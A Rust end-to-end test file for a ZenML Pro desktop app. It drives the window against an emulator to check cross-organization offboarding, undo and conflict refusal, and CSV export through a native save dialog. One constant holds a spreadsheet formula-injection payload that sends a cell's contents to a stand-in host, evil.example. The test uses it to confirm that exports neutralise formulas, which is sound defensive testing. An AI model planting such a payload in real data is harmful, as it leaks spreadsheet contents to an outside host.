//! Across organizations in the real window, against a server changed behind it: a person who is in
//! three organizations is found on People and opened; another admin removes them from orbit-labs
//! behind the window's back, and the window (still showing them there) invites them again; offboarded
//! from two organizations (the third left out of the plan): the removal from orbit-labs is done,
//! "already gone", and its invitation is still revoked. From Activity, the removal from acme-ml is
//! undone after its confirmation says what will change, checked on the server; then another admin
//! changes their role there and the undo of that undo is refused as a conflict, the server unchanged.
//! And, in a window of its own, the members of one organization exported to CSV through the desktop's
//! native save dialog (typed into with xdotool), the file read back (0600, the rows the window said,
//! no formula cell) and its folder opened; a second save cancelled in the dialog writes nothing. A
//! person with a workspace role and a team offboarded in the window: the role and the team go first,
//! then the membership, and the server keeps none of them.
//! Ignored in a plain `cargo test`; `scripts/e2e.sh` runs them.

use std::sync::Arc;

use anyhow::{ensure, Context, Result};
use serde_json::{json, Value};
use zenml_pro_core::api::{ApiKey, RetryPolicy};
use zenml_pro_core::{AccountRecord, ClientSettings, Core, CoreOptions, MemoryKeyring, Person, SyncOptions};
use zenml_pro_e2e::{
    native_window, native_window_shown, screenshot_screen, stand_in_opener, xdotool, xpath_literal, App,
};
use zenml_pro_emulator::{start, EmulatorConfig, RunningEmulator};

const TRAVELER: &str = "traveler@example.com";
/// In acme-ml: Organization Member, Workspace Developer on acme-research, in the data-science team.
const GRANTED: &str = "member@acme-ml.example";
const ORGS: [&str; 3] = ["acme-ml", "orbit-labs", "scale-org-0001"];

#[tokio::test]
#[ignore = "needs a display: run scripts/e2e.sh"]
async fn a_person_offboarded_and_undone_against_a_server_changed_behind_the_window() -> Result<()> {
    let emu = start(EmulatorConfig { port: 0, scale: Some(1), ..Default::default() }).await?;
    member_of_three(&emu).await?;
    let app = App::launch(&[]).await?;
    let result = walk_through(&app, &emu).await;
    app.close().await?;
    emu.shutdown().await;
    result
}

#[tokio::test]
#[ignore = "needs a display: run scripts/e2e.sh"]
async fn a_person_with_a_workspace_role_and_a_team_offboarded() -> Result<()> {
    let emu = start(EmulatorConfig { port: 0, ..Default::default() }).await?;
    let app = App::launch(&[]).await?;
    let result = offboard_grants(&app, &emu).await;
    app.close().await?;
    emu.shutdown().await;
    result
}

#[tokio::test]
#[ignore = "needs a display: run scripts/e2e.sh"]
async fn members_exported_through_the_native_save_dialog() -> Result<()> {
    let emu = start(EmulatorConfig { port: 0, scale: Some(1), ..Default::default() }).await?;
    // Any member can set their own display name: one sets a live formula.
    control(&emu, "users/rename", json!({ "email": "member@acme-ml.example", "name": FORMULA })).await?;
    let opener = tempfile::tempdir()?;
    let (path, opened) = stand_in_opener(opener.path())?;
    let app = App::launch(&[("PATH", &path)]).await?;
    let result = export_members(&app, &emu, &opened).await;
    app.close().await?;
    emu.shutdown().await;
    result
}

/// A core of its own (in a temporary folder, the directory returned to keep it) signed in as the demo
/// user and synced.
async fn demo_user(emu: &RunningEmulator) -> Result<(tempfile::TempDir, Core, AccountRecord)> {
    let dir = tempfile::tempdir()?;
    let (core, _) = Core::open(CoreOptions {
        data_dir: dir.path().to_owned(),
        secrets: Arc::new(MemoryKeyring::new()),
        client: ClientSettings { retry: RetryPolicy::none(), ..Default::default() },
    })?;
    let key = ApiKey::new(emu.credentials().multi_org.key.clone());
    let account = core.login_with_key(&emu.base_url(), key).await?;
    core.sync(&account.id, &SyncOptions::default(), &|_| {}, &Default::default()).await?;
    Ok((dir, core, account))
}

/// Makes the traveler a member of the three organizations, as the demo user (an admin of acme-ml and
/// scale-org-0001, a manager of orbit-labs) inviting them and the emulator accepting for them.
async fn member_of_three(emu: &RunningEmulator) -> Result<()> {
    let (_dir, core, account) = demo_user(emu).await?;
    for org in ORGS {
        let org_id = core.resolve_org(&account.id, Some(org))?;
        core.invite(&account.id, org_id, &[TRAVELER.to_owned()], "Organization Member").await?;
        let accepted =
            control(emu, "invitations/accept", json!({ "email": TRAVELER, "organization_id": org_id }))
                .await?;
        ensure!(accepted.is_object(), "{org}: the invitation was not accepted: {accepted}");
    }
    Ok(())
}

async fn control(emu: &RunningEmulator, path: &str, body: Value) -> Result<Value> {
    let response = reqwest::Client::new()
        .post(emu.control_url(path))
        .header(zenml_pro_emulator::CONTROL_HEADER, emu.control_token())
        .json(&body)
        .send()
        .await?;
    let status = response.status();
    let body: Value = response.json().await.unwrap_or(Value::Null);
    ensure!(status.is_success(), "{path}: {status} {body}");
    Ok(body)
}

/// The traveler as the server has them now (read by a core of its own, synced just now).
async fn traveler_now(emu: &RunningEmulator) -> Result<Person> {
    let (_dir, core, _) = demo_user(emu).await?;
    Ok(core.person(TRAVELER)?)
}

/// The traveler's organization roles in `org` on the server now (none: not a member there).
async fn roles_on_server(emu: &RunningEmulator, org: &str) -> Result<Vec<String>> {
    let person = traveler_now(emu).await?;
    let Some(o) = person.organizations.iter().find(|o| o.org_name == org && o.member_id.is_some()) else {
        return Ok(Vec::new());
    };
    Ok(o.roles.iter().map(|r| r.name.clone().unwrap_or_else(|| r.role_id.to_string())).collect())
}

/// The statuses of the traveler's invitations to `org` on the server now.
async fn invitations_on_server(emu: &RunningEmulator, org: &str) -> Result<Vec<String>> {
    let person = traveler_now(emu).await?;
    Ok(person
        .organizations
        .iter()
        .filter(|o| o.org_name == org)
        .flat_map(|o| o.invitations.iter().map(|i| i.status.clone()))
        .collect())
}

/// The organizations the server lists the traveler in, as a member or with a pending invitation.
async fn traveler_on_server(emu: &RunningEmulator) -> Result<Vec<String>> {
    let person = traveler_now(emu).await?;
    Ok(person
        .organizations
        .iter()
        .filter(|o| o.member_id.is_some() || o.invitations.iter().any(|i| i.status == "pending"))
        .map(|o| o.org_name.clone())
        .collect())
}

/// Presses an entry of the navigation, whose text also names its shortcut.
async fn nav(app: &App, label: &str) -> Result<()> {
    let xpath =
        format!("//button[starts-with(normalize-space(.), {})][contains(., 'Ctrl+')]", xpath_literal(label));
    app.find(&xpath).await?.click().await?;
    Ok(())
}

async fn walk_through(app: &App, emu: &RunningEmulator) -> Result<()> {
    sign_in(app, emu).await?;

    // People: search, open the person; they are in the three organizations.
    nav(app, "People").await?;
    app.fill("Search people by name or email", "travel").await?;
    app.wait_for_text(TRAVELER).await?;
    app.screenshot("people").await?;
    app.find(&format!("//li[@role='option'][contains(., {})]", xpath_literal(TRAVELER)))
        .await?
        .click()
        .await?;
    app.find("//h1[contains(., 'traveler')]").await?;
    for org in ORGS {
        app.wait_for_text(org).await?;
    }
    app.screenshot("person").await?;

    // Behind the window's back, another admin (a core of its own) removes them from orbit-labs. The
    // window still shows them there and invites them again: the server takes it, they are no longer a
    // member; the window's cache now has the membership and a pending invitation.
    let (_other_dir, other, other_account) = demo_user(emu).await?;
    let orbit = other.resolve_org(&other_account.id, Some(ORGS[1]))?;
    other.remove_member(&other_account.id, orbit, TRAVELER).await?;
    nav(app, "Home").await?;
    app.click_button_containing("Orbit Labs").await?;
    app.click_button("Invitations").await?;
    app.fill("Email addresses", TRAVELER).await?;
    app.choose("Role", "Organization Member").await?;
    app.click_button("Invite").await?;
    app.wait_for_text(&format!("{TRAVELER}: invited")).await?;

    // Offboard from two: the plan lists three (in orbit-labs the membership and the invitation), the
    // third is left out; the overrides are there, off.
    nav(app, "People").await?;
    app.fill("Search people by name or email", "travel").await?;
    app.find(&format!("//li[@role='option'][contains(., {})]", xpath_literal(TRAVELER)))
        .await?
        .click()
        .await?;
    app.find("//h1[contains(., 'traveler')]").await?;
    app.click_button("Offboard…").await?;
    app.find("//div[@role='dialog']").await?;
    app.wait_for_text("Revoke the pending invitation").await?;
    for label in [
        "Also remove my own account's access where it is the person's",
        "Also remove an organization's last Organization Admin",
    ] {
        let box_ = app
            .find(&format!("//div[@role='dialog']//label[contains(., {})]/input", xpath_literal(label)))
            .await?;
        ensure!(!box_.is_selected().await?, "{label:?} is off by default");
    }
    app.find(&format!("//div[@role='dialog']//label[contains(., {})]/input", xpath_literal(ORGS[2])))
        .await?
        .click()
        .await?;
    app.screenshot("offboard-plan").await?;
    app.click_button_containing("Remove from 2").await?;
    // The membership removed behind is done, "already gone"; the invitation is still revoked.
    app.wait_for_text("Done 3 of 3 steps").await?;
    app.wait_for_text(&format!("orbit-labs: remove member {TRAVELER}: done, already gone")).await?;
    app.wait_for_text(&format!("orbit-labs: revoke invitation {TRAVELER}: done")).await?;
    app.screenshot("offboarding").await?;
    let left = traveler_on_server(emu).await?;
    ensure!(left == [ORGS[2]], "after offboarding from two, the server lists them in {left:?}");
    let invitations = invitations_on_server(emu, ORGS[1]).await?;
    ensure!(
        invitations.iter().any(|s| s == "revoked") && !invitations.iter().any(|s| s == "pending"),
        "orbit-labs' invitation was revoked: {invitations:?}"
    );
    app.click_button("Close").await?;

    // Activity: undo the removal from acme-ml; the confirmation says, from the server, what will
    // change; then the server has them back there.
    nav(app, "Activity").await?;
    let row = format!(
        "//table//tr[contains(., {}) and contains(., 'acme-ml') and contains(., 'removal') and .//button[normalize-space(.)='Undo']]",
        xpath_literal(TRAVELER)
    );
    app.find(&row).await?;
    app.screenshot("activity").await?;
    app.find(&format!("{row}//button[starts-with(normalize-space(.), 'Undo')]")).await?.click().await?;
    app.find("//div[@role='dialog']").await?;
    app.wait_for_text(&format!("{TRAVELER} becomes a member again with Organization Member.")).await?;
    let focused =
        app.client.execute("return !!document.activeElement.closest('[role=dialog]')", vec![]).await?;
    ensure!(focused == json!(true), "the focus moved into the confirmation");
    app.screenshot("undo").await?;
    app.find("//div[@role='dialog']//button[normalize-space(.)='Undo']").await?.click().await?;
    app.wait_for_text("Undone:").await?;
    app.wait_until("the server to have them back in acme-ml", || async {
        Ok(roles_on_server(emu, ORGS[0]).await? == ["Organization Member"])
    })
    .await?;

    // Another admin changes their role in acme-ml behind the window's back; undoing the undo (which
    // would remove them again) is refused when pressed: the window says so, with no confirmation, and
    // the server keeps the other admin's role.
    other.sync(&other_account.id, &SyncOptions::default(), &|_| {}, &Default::default()).await?;
    let acme = other.resolve_org(&other_account.id, Some(ORGS[0]))?;
    other.set_member_role(&other_account.id, acme, TRAVELER, "Organization Viewer").await?;
    let undo_row = format!(
        "//table//tr[contains(., {}) and contains(., 'acme-ml') and contains(., '(undoes #') and .//button[normalize-space(.)='Undo']]",
        xpath_literal(TRAVELER)
    );
    app.find(&format!("{undo_row}//button[starts-with(normalize-space(.), 'Undo')]")).await?.click().await?;
    app.wait_for_text("was changed on the server since. Nothing was sent.").await?;
    let refused = app.find("//*[@data-testid='undo-refused']").await?.text().await?;
    ensure!(refused.contains("Organization Viewer"), "the refusal says what they hold now: {refused}");
    ensure!(
        app.client.find_all(fantoccini::Locator::XPath("//div[@role='dialog']")).await?.is_empty(),
        "no confirmation"
    );
    app.screenshot("undo-refused").await?;
    let roles = roles_on_server(emu, ORGS[0]).await?;
    ensure!(roles == ["Organization Viewer"], "the server is unchanged: {roles:?}");

    // The access review across the organizations.
    nav(app, "Access review").await?;
    app.wait_for_text("as of").await?;
    app.screenshot("access-review").await?;

    Ok(())
}

/// Offboards a person who holds a workspace role and is in a team: the dialog lists the role and the
/// team before the membership, and what is out of the app's reach; the run takes all three away, in
/// that order, and the server (read by a core of its own) keeps none of them.
async fn offboard_grants(app: &App, emu: &RunningEmulator) -> Result<()> {
    sign_in(app, emu).await?;
    nav(app, "People").await?;
    app.fill("Search people by name or email", GRANTED).await?;
    app.find(&format!("//li[@role='option'][contains(., {})]", xpath_literal(GRANTED)))
        .await?
        .click()
        .await?;
    app.find("//h1[contains(., 'Acme Member')]").await?;
    app.click_button("Offboard…").await?;
    app.find("//div[@role='dialog']").await?;
    app.wait_for_text("Revoke Workspace Developer on acme-research").await?;
    app.wait_for_text("Leave team data-science").await?;
    app.wait_for_text("Remove the membership").await?;
    app.wait_for_text("Out of this app's reach").await?;
    app.wait_for_text("up to an hour").await?;
    let order: Vec<String> = app
        .client
        .execute(
            "return [...document.querySelectorAll('[role=dialog] .what > li')].map((li) => li.textContent.trim())",
            vec![],
        )
        .await?
        .as_array()
        .context("the plan's lines")?
        .iter()
        .filter_map(|v| v.as_str().map(str::to_owned))
        .collect();
    ensure!(
        order.len() == 3
            && order[0].starts_with("Revoke Workspace Developer")
            && order[1].starts_with("Leave team data-science")
            && order[2].starts_with("Remove the membership"),
        "the role and the team come before the membership: {order:?}"
    );
    app.screenshot("offboard-grants-plan").await?;
    app.click_button_containing("Remove from 1").await?;
    app.wait_for_text("Done 3 of 3 steps").await?;
    app.wait_for_text(&format!(
        "acme-ml: revoke role {GRANTED} (Workspace Developer on acme-research): done"
    ))
    .await?;
    app.wait_for_text(&format!("acme-ml: leave team {GRANTED} (team data-science): done")).await?;
    app.wait_for_text(&format!("acme-ml: remove member {GRANTED}: done")).await?;
    app.screenshot("offboard-grants-done").await?;

    // The server, read by a core of its own: no role on the workspace, no team, no membership.
    let (_dir, core, account) = demo_user(emu).await?;
    let acme = core.resolve_org(&account.id, Some("acme-ml"))?;
    let access = core.workspace_access(&account.id, acme, "acme-research").await?;
    ensure!(!access.iter().any(|a| a.holder == GRANTED), "a role is left on acme-research: {access:?}");
    let team = core.team_members(&account.id, acme, "data-science").await?;
    ensure!(
        !team.members.iter().any(|m| m.email() == Some(GRANTED)),
        "still in data-science: {:?}",
        team.members
    );
    ensure!(core.find_member(&account.id, acme, GRANTED).is_err(), "still a member of acme-ml");
    app.click_button("Close").await?;
    Ok(())
}

async fn sign_in(app: &App, emu: &RunningEmulator) -> Result<()> {
    app.click_button("Self-hosted control plane").await?;
    app.fill("API URL", &emu.base_url()).await?;
    app.fill("Or sign in with an API key or token", &emu.credentials().multi_org.key).await?;
    app.click_button("Sign in").await?;
    app.wait_for_text("Orbit Labs").await?;
    Ok(())
}

async fn export_members(app: &App, emu: &RunningEmulator, opened: &std::path::Path) -> Result<()> {
    sign_in(app, emu).await?;
    // Export acme-ml's members to CSV: Save… opens the desktop's own save dialog (a GTK file chooser,
    // over the window, in the Downloads folder); a file name is typed into it and Return pressed.
    let downloads = app.home.path().join("Downloads");
    std::fs::create_dir_all(&downloads)?;
    let file = downloads.join("acme-ml-members-e2e.csv");
    app.click_button_containing("Acme ML").await?;
    app.click_button("Members").await?;
    app.wait_for_text("viewer@acme-ml.example").await?;
    app.click_button("Export…").await?;
    app.click_button("Save…").await?;
    app.wait_for_text("Waiting for the save dialog").await?;
    let chooser = native_window(SAVE_DIALOG).await?;
    // The chooser paints its folder and suggested name a moment after it is mapped.
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    screenshot_screen("export-save-dialog")?;
    xdotool(&["windowfocus", "--sync", &chooser])?;
    xdotool(&["key", "--clearmodifiers", "ctrl+a"])?;
    xdotool(&["type", "--delay", "20", "acme-ml-members-e2e.csv"])?;
    xdotool(&["key", "--clearmodifiers", "Return"])?;
    app.wait_for_text("Saved").await?;
    ensure!(!native_window_shown(SAVE_DIALOG), "the save dialog closed");
    let shown = app.body_text().await?;
    ensure!(shown.contains(&file.display().to_string()), "the window names the file saved: {shown}");
    let csv = std::fs::read_to_string(&file).with_context(|| format!("reading {}", file.display()))?;
    check_saved_csv(&file, &csv, &shown)?;
    app.screenshot("export").await?;
    // Show in folder hands the file's folder to the desktop's opener.
    app.click_button("Show in folder").await?;
    let folder = downloads.display().to_string();
    app.wait_until("the export's folder to be opened", || async {
        let asked = std::fs::read_to_string(opened).unwrap_or_default();
        Ok(asked.lines().any(|l| l == folder))
    })
    .await?;

    // Cancelled: Save… again, Escape in the chooser; nothing is written and the window says so.
    app.click_button("Save…").await?;
    let chooser = native_window(SAVE_DIALOG).await?;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    xdotool(&["windowfocus", "--sync", &chooser])?;
    xdotool(&["key", "--clearmodifiers", "Escape"])?;
    app.wait_for_text("Cancelled: nothing was saved.").await?;
    let files: Vec<_> = std::fs::read_dir(&downloads)?.flatten().map(|f| f.file_name()).collect();
    ensure!(files.len() == 1, "only the saved export is in Downloads: {files:?}");
    Ok(())
}

/// A display name a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&C2,\"Acme Member\")";

/// The title of the save dialog of a members export.
const SAVE_DIALOG: &str = "Save the members export";

/// The CSV saved through the dialog: only its owner may read it (0600), it holds the members with
/// their fetched-at stamp, as many rows as the window said, and no cell a spreadsheet would run as a
/// formula.
fn check_saved_csv(file: &std::path::Path, csv: &str, shown: &str) -> Result<()> {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(file)?.permissions().mode() & 0o777;
    ensure!(mode == 0o600, "the export is {mode:o}, not 600");
    let header = csv.lines().next().unwrap_or_default();
    ensure!(header.contains("email") && header.contains("fetched_at"), "the CSV's header: {header}");
    ensure!(csv.contains("viewer@acme-ml.example"), "the CSV holds the members: {csv}");
    ensure!(csv.contains("\r\n"), "RFC 4180 line ends");
    let records = zenml_pro_core::csv::parse(csv).map_err(|e| anyhow::anyhow!("the CSV parses: {e}"))?;
    let rows = records.len().saturating_sub(1);
    let said = format!("Saved {rows} row");
    ensure!(shown.contains(&said), "the window says {said:?}: {shown}");
    let neutralised = format!("'{FORMULA}");
    ensure!(records.iter().any(|r| r.contains(&neutralised)), "the formula name is kept, neutralised: {csv}");
    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
    for (i, record) in records.iter().enumerate() {
        for cell in record {
            ensure!(!cell.starts_with(TRIGGERS), "row {i}: a cell a spreadsheet would run: {cell:?}");
        }
    }
    Ok(())
}
